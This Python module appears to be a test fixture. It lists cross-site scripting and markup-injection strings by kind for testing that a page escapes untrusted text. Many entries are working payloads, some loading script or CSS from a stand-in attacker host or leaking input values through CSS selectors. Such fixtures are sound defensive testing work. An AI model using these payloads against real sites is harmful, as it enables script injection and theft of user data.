"""Texts that would do something in a page that took them for markup, by kind."""

KINDS = {
    "element": [
        "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=https://evil.example/x.js></script>", "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=https://evil.example/x></object>", "<embed src=https://evil.example/x>", "<link rel=stylesheet href=https://evil.example/x.css>",
        "<meta http-equiv=refresh content='0;url=https://evil.example/'>", "<base href=https://evil.example/>", "<form action=https://evil.example/><input name=x autofocus onfocus=alert(1)>",
        "<video src=https://evil.example/x onerror=alert(1)>", "<audio src=https://evil.example/x>", "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>",
        "<template><script>alert(1)</script></template>", "<noscript><img src=https://evil.example/x></noscript>", "<input type=image src=https://evil.example/x>",
        "<portal src=https://evil.example/>", "<x-element onclick=alert(1)>", "<math><mtext><script>alert(1)</script>",
    ],
    "closing": [
        "</td></tr></table><script>alert(1)</script>", "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "</pre><img src=x onerror=alert(1)>",
        "</svg><script>alert(1)</script>", "</summary></details><script>alert(1)</script>", "</code></p><h1>x</h1>", "</body></html><script>alert(1)</script>",
        "--><script>alert(1)</script><!--", "]]><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</noscript><script>alert(1)</script>",
    ],
    "attribute": [
        "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "` onmouseover=`alert(1)", "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "x onerror=alert(1)",
        "\" style=\"background:url(https://evil.example/x)", "\" autofocus tabindex=0 onfocus=\"alert(1)", "\" href=\"javascript:alert(1)", "\"/><img src=x onerror=alert(1)>",
        "\" srcset=\"https://evil.example/x 2x", "\" id=\"findings",
    ],
    "svg": [
        "<svg><script>alert(1)</script></svg>", "<svg><image href=https://evil.example/x />", "<svg><use href=https://evil.example/x#y />", "<svg><foreignObject><script>alert(1)</script>",
        "<svg><animate onbegin=alert(1) attributeName=x>", "<svg><set attributeName=href to=javascript:alert(1)>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a>",
        "<svg><style>*{fill:url(https://evil.example/x)}</style>", "<svg><title><script>alert(1)</script></title>", "<svg><desc></desc><script>alert(1)</script>",
    ],
    "style": [
        "<style>@import 'https://evil.example/x.css';</style>", "<style>body{background:url(https://evil.example/x)}</style>", "<div style=background-image:url(https://evil.example/x)>",
        "<style>@font-face{font-family:x;src:url(https://evil.example/x)}</style>", "<p style='behavior:url(https://evil.example/x)'>", "<style>*{display:none}</style>",
        "<style>input[value^=a]{background:url(https://evil.example/a)}</style>", "</style><style>body{display:none}",
    ],
    "address": [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "https://evil.example/\"><script>alert(1)</script>",
        "//evil.example/x", "https://evil.example/x.png", "file:///etc/passwd", "blob:https://evil.example/x", "view-source:https://evil.example/", "<a href=javascript:alert(1)>x</a>",
    ],
    "entity": [
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;img src=x onerror=alert(1)&#x3e;", "&quot; onmouseover=&quot;alert(1)", "&amp;lt;script&amp;gt;",
        "&NewLine;&Tab;javascript&colon;alert(1)", "&#0;&#1;&#xfffd;", "&lt", "&notanentity;", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    ],
    "parser": [
        "<![CDATA[<script>alert(1)</script>]]>", "<!--<script>alert(1)</script>-->", "<!doctype html><script>alert(1)</script>", "<?xml version='1.0'?><script>alert(1)</script>", "<%= alert(1) %>",
        "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{alert(1)}", "<<script>alert(1)//<</script>", "<script/x>alert(1)</script/x>", "<img src=x onerror=alert(1)//", "<script\n>alert(1)</script\n>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">", "<table><tr><td><form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<a id=x><a id=x name=y href=cid:alert(1)>", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    ],
    "character": [
        "a\u202eb<script>alert(1)</script>", "\u2066x\u2069", "\u200bx\u200d", "\u001b[31mred\u001b[0m", "x\u0007\u0008\u000c", "\u009b2J", "\ufeffx", "\u2028alert(1)\u2029", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
        "\u00bcscript\u00bealert(1)\u00bc/script\u00be", "x\u0301" * 40, "A" * 20_000,
    ],
}

ALL = [(kind, text) for kind, texts in KINDS.items() for text in texts]
